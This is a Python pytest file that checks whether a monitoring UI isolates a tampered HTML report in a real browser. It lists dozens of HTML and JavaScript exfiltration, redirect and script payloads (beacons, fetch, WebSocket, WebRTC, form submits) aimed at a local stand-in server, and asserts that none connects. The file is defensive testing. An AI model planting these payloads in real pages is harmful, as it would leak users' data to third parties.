"""A report that somebody changed, shown in the ui in a real browser: nothing in it gets out, and no script of it runs.

Each attack is first made on a plain page, where it has to succeed: one that no browser lets through any more would
prove nothing.
"""

import contextlib
import http.server
import socketserver
import threading
from dataclasses import dataclass, field

import pytest

from model_monitor.reading.history import History
from model_monitor.reading.run_store import open_store
from model_monitor.ui.app import Application, hosts_for
from model_monitor.ui.pages import Site
from model_monitor.ui.server import listen
from tests.support.chromium import browser
from tests.support.metadata_store import StoreWriter
from tests.support.timeline_story import write_timeline

pytestmark = pytest.mark.long

OUT = "http://127.0.0.1:{port}/{name}"
CLICKED = ' style="position:fixed;left:0;top:0;width:100vw;height:100vh;display:block;font-size:300px"'
# By name: what is in the report. OUT is an address of somebody else's; a connection to it is what must not be.
LOADED = {
    "image": '<img src="OUT">',
    "image-set": '<img srcset="OUT 1x">',
    "style-sheet": '<link rel="stylesheet" href="OUT">',
    "icon": '<link rel="icon" href="OUT">',
    "prefetch": '<link rel="prefetch" href="OUT">',
    "preload": '<link rel="preload" as="image" href="OUT">',
    "module-preload": '<link rel="modulepreload" href="OUT">',
    "manifest": '<link rel="manifest" href="OUT">',
    "style-import": '<style>@import url("OUT");</style>',
    "style-image": '<p style="background:url(OUT)">x</p>',
    "style-list": '<ul style="list-style-image:url(OUT)"><li>x</li></ul>',
    "font": "<style>@font-face{font-family:f;src:url(OUT)}p{font-family:f}</style><p>x</p>",
    "frame": '<iframe src="OUT"></iframe>',
    "frame-in-frame": "<iframe srcdoc='<img src=OUT>'></iframe>",
    "object": '<object data="OUT"></object>',
    "embed": '<embed src="OUT">',
    "video": '<video src="OUT" autoplay></video>',
    "poster": '<video poster="OUT"></video>',
    "audio": '<audio src="OUT" autoplay></audio>',
    "svg-image": '<svg><image href="OUT" width="9" height="9"/></svg>',
    "input-image": '<input type="image" src="OUT">',
    "base": '<base href="OUT/"><img src="x">',
    "script-file": '<script src="OUT"></script>',
    "module-file": '<script type="module" src="OUT"></script>',
    "fetch": "<script>fetch('OUT')</script>",
    "request": "<script>var x=new XMLHttpRequest();x.open('GET','OUT');x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('OUT','x')</script>",
    "script-image": "<script>new Image().src='OUT'</script>",
    "handler": "<img src=x onerror=\"new Image().src='OUT'\">",
    "event-source": "<script>new EventSource('OUT')</script>",
    "web-socket": "<script>new WebSocket('OUT'.replace('http','ws'))</script>",
    "import": "<script>import('OUT')</script>",
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["OUT"],"eagerness":"immediate"}]}</script>',
}
# These leave no path behind, or take the page away: each on a page of its own.
ALONE = {
    "preconnect": '<link rel="preconnect" href="OUT">',
    "web-rtc": "<script>var c=new RTCPeerConnection({iceServers:[{urls:'turn:127.0.0.1:PORT?transport=tcp',"
    "username:'a',credential:'b'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))"
    "</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url=OUT">',
    "location": "<script>location='OUT'</script>",
    "location-replace": "<script>location.replace('OUT')</script>",
    "top-location": "<script>top.location='OUT'</script>",
    "parent-location": "<script>parent.location='OUT'</script>",
    "form-submit": '<form action="OUT" method="post"></form><script>document.forms[0].submit()</script>',
    "link-by-script": '<a href="OUT">x</a><script>document.links[0].click()</script>',
    "out-of-base": '<base href="OUT" target="_top"><script>location="x"</script>',
}
CLICKS = {
    "link": '<a href="OUT"CLICKED>x</a>',
    "link-top": '<a href="OUT" target="_top"CLICKED>x</a>',
    "link-parent": '<a href="OUT" target="_parent"CLICKED>x</a>',
    "link-new": '<a href="OUT" target="_blank"CLICKED>x</a>',
    "link-ping": '<a href="#x" ping="OUT"CLICKED>x</a>',
    "link-download": '<a href="OUT" download="x"CLICKED>x</a>',
    "form": '<form action="OUT" method="get"><button name="a" value="b"CLICKED>x</button></form>',
    "form-post": '<form action="OUT" method="post"><button name="a" value="b"CLICKED>x</button></form>',
    "form-new": '<form action="OUT" target="_blank"><button CLICKED>x</button></form>',
    "form-action": '<form action="#"><button formaction="OUT" formtarget="_top"CLICKED>x</button></form>',
    "popup": "<button CLICKED onclick=\"window.open('OUT')\">x</button>",
    "svg-link": '<svg CLICKED viewBox="0 0 9 9"><a href="OUT"><rect width="9" height="9"/></a></svg>',
    "script-link": "<a href=\"javascript:location='OUT'\"CLICKED>x</a>",
}
SHORT = {"preconnect", "refresh", "location", "link", "link-top", "link-new", "popup"}  # of those alone
DIALOGS = {name: f"<script>{name}('x')</script>" for name in ("alert", "confirm", "prompt")}


@dataclass
class Outside:
    """Somebody else's server: which attacks reached it, and how many connections it had."""

    port: int = 0
    plain: str = ""  # the address of a plain page, of yet another server
    page: str = ""  # what is on that
    reached: set[str] = field(default_factory=set)
    connections: int = 0

    def text(self, attacks: dict[str, str]) -> str:
        parts = []
        for name, attack in attacks.items():
            address = OUT.format(port=self.port, name=name)
            parts.append(attack.replace("OUT", address).replace("PORT", str(self.port)).replace("CLICKED", CLICKED))
        return f"<!doctype html><title>report</title><h1>report</h1>{''.join(parts)}"

    def forget(self) -> None:
        self.reached.clear()
        self.connections = 0


@pytest.fixture
def outside():
    state = Outside()

    class Answer(http.server.BaseHTTPRequestHandler):
        def handle(self):
            state.connections += 1  # also one that says nothing, which a browser makes ahead of time
            super().handle()

        def do_GET(self):
            self.answer(b"")
            state.reached.add(self.path.split("/")[1].partition("?")[0])

        def answer(self, body):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    class Plain(Answer):
        def handle(self):
            http.server.BaseHTTPRequestHandler.handle(self)

        def do_GET(self):
            self.answer(state.page.encode())

    class Server(socketserver.ThreadingTCPServer):
        daemon_threads = True
        allow_reuse_address = True

    with contextlib.ExitStack() as servers:
        for kind in (Answer, Plain):
            server = servers.enter_context(Server(("127.0.0.1", 0), kind))
            threading.Thread(target=server.serve_forever, args=(0.05,)).start()
            servers.callback(server.shutdown)
            if kind is Answer:
                state.port = server.server_address[1]
        state.plain = f"http://127.0.0.1:{server.server_address[1]}/"
        yield state


@dataclass
class Shown:
    """The ui with one run, whose report is whatever a test writes."""

    address: str
    report: object

    def write(self, text: str) -> None:
        self.report.write_text(text)


@pytest.fixture
def shown(tmp_path):
    writer = StoreWriter(tmp_path / "metadata.sqlite")
    folder = tmp_path / "report"
    folder.mkdir()
    run = writer.pipeline_run("monitoring", "run")
    run.node("ValidationReport", outputs={"report": [writer.artifact("components.HtmlReport", folder)]})
    number = History(open_store(writer.path)).runs[0].id
    with served(writer.path) as address:
        yield Shown(f"{address}/runs/{number}/report", folder / "report.html")


@contextlib.contextmanager
def served(metadata):
    """The ui over a store; gives its address."""
    site = Site(metadata, metadata.parent)
    server = listen(Application(site, hosts=hosts_for("127.0.0.1")), "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.port}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_nothing_in_a_report_gets_out(shown, outside, tmp_path, tries, report):
    seconds = tries(0.8, 3.0)
    groups = [(LOADED, False), *(({name: text}, name in CLICKS) for name, text in (ALONE | CLICKS).items())]
    groups = [each for each in groups if tries(len(each[0]) > 1 or not SHORT.isdisjoint(each[0]), True)]
    tried, held, out, harmless = 0, 0, [], []
    with browser(tmp_path / "profile") as chromium:
        for attacks, click in groups:
            outside.page = outside.text(attacks)
            succeeded = attack_plainly(chromium, outside, attacks, click, seconds)
            harmless += sorted(set(attacks) - succeeded)
            shown.write(outside.text(attacks))
            leave_behind(chromium, outside)
            chromium.open(shown.address)
            chromium.wait(seconds / 2)
            if click:
                chromium.click(600, 500)
            chromium.wait(seconds)
            safe = outside.connections == 0 and chromium.url() == shown.address and not chromium.others()
            tried += len(succeeded)
            held += len(succeeded) if safe else 0
            out += [] if safe else [(sorted(attacks), outside.reached, outside.connections, chromium.url())]
    print("no attack on a plain page either:", harmless)  # noqa: T201
    assert out == []
    assert len(harmless) <= 6, harmless
    report("attacks of a changed report in the ui", tried, held)


def test_the_package_s_own_script_runs_in_the_frame(tmp_path):
    """A bin of a chart says what it shows beside the pointer: that takes the script."""
    story = write_timeline(tmp_path / "told", 3)
    with served(story.metadata) as address, browser(tmp_path / "profile") as chromium:
        number = History(open_store(story.metadata)).runs[0].id
        chromium.open(f"{address}/runs/{number}/report")
        chromium.wait(1.0)
        assert chromium.complaints() == []
        assert chromium.in_frame("document.getElementById('told').hidden") is True
        point = "document.querySelector('[data-told]').dispatchEvent(new PointerEvent('pointermove', {bubbles: true}))"
        assert chromium.in_frame(point) is True
        assert chromium.in_frame("document.getElementById('told').hidden") is False
        assert chromium.in_frame("document.getElementById('told').textContent") != ""


def leave_behind(chromium, outside):
    """Leaves the plain page, so that what it still had under way (a spare connection, a retry) is not counted later."""
    chromium.open("about:blank")
    chromium.wait(0.5)
    outside.forget()


def attack_plainly(chromium, outside, attacks, click, seconds):
    """The attacks that succeed where nothing is in their way."""
    outside.forget()
    chromium.open(outside.plain)
    if click:
        chromium.click(600, 500)
    chromium.wait(seconds)
    chromium.others()
    if len(attacks) > 1:
        return outside.reached & set(attacks)
    (name,) = attacks
    without_path = name in ("preconnect", "web-rtc") and outside.connections > 0
    return {name} if name in outside.reached or without_path else set()


def test_no_script_of_a_changed_report_runs_and_no_dialog_opens(shown, outside, tmp_path, report):
    held = 0
    with browser(tmp_path / "profile") as chromium:
        for name, text in DIALOGS.items():
            outside.page = text
            chromium.open(outside.plain)
            chromium.wait(0.5)
            assert len(chromium.of("Page.javascriptDialogOpening")) == 1, name
            shown.write(outside.text({name: text}))
            chromium.open(shown.address)
            chromium.wait(0.5)
            held += not chromium.of("Page.javascriptDialogOpening")
    report("scripts of a changed report in the ui", len(DIALOGS), held)
